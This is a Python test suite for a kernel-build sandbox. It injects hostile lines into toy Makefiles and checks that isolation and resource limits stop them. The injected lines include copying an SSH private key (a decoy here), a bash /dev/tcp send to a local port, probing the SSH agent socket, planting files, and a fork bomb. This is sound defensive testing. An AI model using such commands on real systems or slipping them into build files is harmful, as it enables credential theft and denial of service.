# SPDX-License-Identifier: GPL-2.0-only

"""Makefiles that mean harm: what each tries does not come about, and a limit that it met is named.

Each is a toy kernel whose Makefile tries one thing on its way to an image. What it tries is proven
to work without isolation, so that no test passes because its Makefile is at fault.
"""

from __future__ import annotations

import os
import socket
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from build_fixtures import Toy
from vm_fixtures import running

from zpmaint.build import limits
from zpmaint.cell import means as cell_means
from zpmaint.cell.values import Groups, Isolation
from zpmaint.core.errors import InfraError


@pytest.fixture(autouse=True)
def fresh_means() -> Iterator[None]:
    cell_means.means.cache_clear()
    yield
    cell_means.means.cache_clear()


@pytest.fixture
def isolation() -> None:
    if cell_means.means().isolation is not Isolation.BUBBLEWRAP:
        pytest.skip(f"NOT RUN: needs bubblewrap: {cell_means.means().isolation_why}")


@pytest.fixture
def cgroup() -> None:
    if cell_means.means().cgroup is Groups.NONE:
        pytest.skip(f"NOT RUN: needs a writable cgroup: {cell_means.means().cgroup_why}")


class Hostile(Toy):
    """A toy kernel whose Makefile also does something else, whatever becomes of that."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self.home = folder / "home"
        (self.home / ".ssh").mkdir(parents=True)
        (self.home / ".ssh" / "id_ed25519").write_text("a decoy of a key\n")
        self.state = folder / "state"
        self.state.mkdir()
        (self.state / "ledger.db").write_text("a decoy of a ledger\n")

    def tries(self, script: str) -> None:
        """Have the Makefile run a line of shell before it links, and not mind how that ends; @O@ is
        the folder of the objects."""
        makefile = (self.tree / "Makefile").read_text()
        line = f"vmlinux: $(objs)\n\t-@{script.replace('$', '$$').replace('@O@', '$(O)')}\n"
        self.write("Makefile", makefile.replace("vmlinux: $(objs)\n", line, 1))

    def find(self, text: str) -> bool:
        """Whether the build's folder or log has a text."""
        whole = [path for path in self.work.rglob("*") if path.is_file()]
        return any(text.encode() in path.read_bytes() for path in whole)


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Hostile:
    found = Hostile(tmp_path)
    monkeypatch.setenv("HOME", str(found.home))
    monkeypatch.setenv("ZPMAINT_HOME", str(tmp_path))
    monkeypatch.setenv("CCACHE_DISABLE", "1")
    return found


def without_isolation(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(cell_means.NAME, "none")
    cell_means.means.cache_clear()


def test_a_key_is_not_read(
    isolation: None, hostile: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile.tries(f"cat {hostile.home}/.ssh/id_ed25519 > @O@/stolen")
    assert hostile.build(None).stock.image.is_file()
    assert not hostile.find("a decoy of a key")
    without_isolation(monkeypatch)
    hostile.write("init/main.c", "void start_kernel(void) { for (;;); }\n")
    hostile.build(None)
    assert hostile.find("a decoy of a key"), "the Makefile is at fault"


@pytest.mark.parametrize("place", ["home", "state", "tree", "place/src"])
def test_nothing_is_written_outside(
    isolation: None, hostile: Hostile, monkeypatch: pytest.MonkeyPatch, place: str
) -> None:
    folder = hostile.place / "src" if place == "place/src" else hostile.folder / place
    hostile.tries(f"echo harm > {folder}/planted; echo harm >> {folder}/Makefile")
    before = hostile.content()
    assert hostile.build(None).stock.image.is_file()
    assert not (folder / "planted").exists()
    assert hostile.content() == before
    without_isolation(monkeypatch)
    hostile.write("init/main.c", "void start_kernel(void) { for (;;); }\n")
    hostile.build(None)
    assert (folder / "planted").exists(), "the Makefile is at fault"


def test_a_ledger_is_neither_read_nor_written(isolation: None, hostile: Hostile) -> None:
    hostile.tries(f"cat {hostile.state}/ledger.db; echo harm > {hostile.state}/ledger.db")
    hostile.build(None)
    assert (hostile.state / "ledger.db").read_text() == "a decoy of a ledger\n"
    assert not hostile.find("a decoy of a ledger")


def test_a_socket_of_this_machine_is_not_reached(
    isolation: None, hostile: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.5)
        port = server.getsockname()[1]
        hostile.tries(f"bash -c 'echo stolen > /dev/tcp/127.0.0.1/{port}'")
        hostile.build(None)
        with pytest.raises(TimeoutError):
            server.accept()
        without_isolation(monkeypatch)
        hostile.write("init/main.c", "void start_kernel(void) { for (;;); }\n")
        hostile.build(None)
        server.accept()[0].close()


def test_an_agent_of_keys_is_not_reached(
    isolation: None, hostile: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    agent = hostile.folder / "agent"
    monkeypatch.setenv("SSH_AUTH_SOCK", str(agent))
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(agent))
        server.listen()
        server.settimeout(0.5)
        reach = f"import socket; socket.socket(socket.AF_UNIX).connect({str(agent)!r})"
        hostile.tries(f'env | grep SSH_AUTH_SOCK; python3 -c "{reach}"')
        kernel = hostile.build(None).stock
        with pytest.raises(TimeoutError):
            server.accept()
    assert "SSH_AUTH_SOCK=" not in kernel.log.read_text()


@pytest.mark.parametrize("kind", [str(kind) for kind in Isolation])
def test_a_daemon_dies_with_its_build(
    hostile: Hostile, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    monkeypatch.setenv(cell_means.NAME, kind)
    cell_means.means.cache_clear()
    try:
        cell_means.means()
    except InfraError as error:
        pytest.skip(f"NOT RUN: {error}")
    hostile.tries("setsid sleep 654.321 & sleep 0.1")
    began = time.monotonic()
    hostile.build(None)
    assert not running("sleep 654.321")
    # Nor does it keep the folder's lock: the next build does not wait for it.
    hostile.write("init/main.c", "void start_kernel(void) { for (;;); }\n")
    hostile.build(None)
    assert time.monotonic() - began < 60


def test_too_much_memory_is_named(
    cgroup: None, hostile: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It asks for 20 GB, a limit of 200 MB ends that: the build has failed for this machine, not
    for ever, even though make itself did not mind."""
    monkeypatch.setenv(limits.NAME, "memory=200M")
    hostile.tries("perl -e '$x = q(a) x 20_000_000_000'")
    with pytest.raises(InfraError, match="limit of memory of 200 MiB: 1 killed") as caught:
        hostile.build(None)
    assert limits.NAME in caught.value.hint
    monkeypatch.setenv(limits.NAME, "")
    hostile.write("Makefile", Toy(hostile.folder / "sound").content()["Makefile"])
    assert hostile.build(None).stock.image.is_file()


def test_too_many_processes_are_named(
    cgroup: None, hostile: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(limits.NAME, "processes=40 seconds=60")
    hostile.tries("bomb() { bomb | bomb & }; bomb; sleep 1")
    with pytest.raises(InfraError, match="limit of 40 processes: "):
        hostile.build(None)


def test_a_full_disk_is_stopped_before_it_is_one(
    hostile: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Room is left for a little less than what it writes."""
    disk = os.statvfs(hostile.folder)
    free = disk.f_bavail * disk.f_frsize
    monkeypatch.setenv(limits.NAME, f"disk={free - (50 << 20)}")
    hostile.tries(
        "for n in 1 2 3 4 5 6; do head -c 50000000 /dev/zero > @O@/fat$n; sleep 0.3; done"
    )
    with pytest.raises(InfraError, match=r"limit of disk: .* free at"):
        hostile.build(None)


def test_a_file_without_end_is_stopped(hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(limits.NAME, "file=1M")
    hostile.tries("head -c 100000000 /dev/zero > @O@/fat")
    with pytest.raises(InfraError, match=r"SIGXFSZ .a limit of the size of files"):
        hostile.build(None)
    assert (hostile.place / "obj" / "fat").stat().st_size == 1 << 20


def test_a_make_without_end_is_named(hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(limits.NAME, "seconds=1")
    hostile.tries("sleep 600")
    with pytest.raises(InfraError, match="limit of time: no end within 1 s"):
        hostile.build(None)


def test_words_without_end_are_stopped(hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("zpmaint.build.make._LOG", 1 << 20)
    hostile.tries("cat /dev/zero")
    with pytest.raises(InfraError, match="limit of output: more than 1 MiB"):
        hostile.build(None)
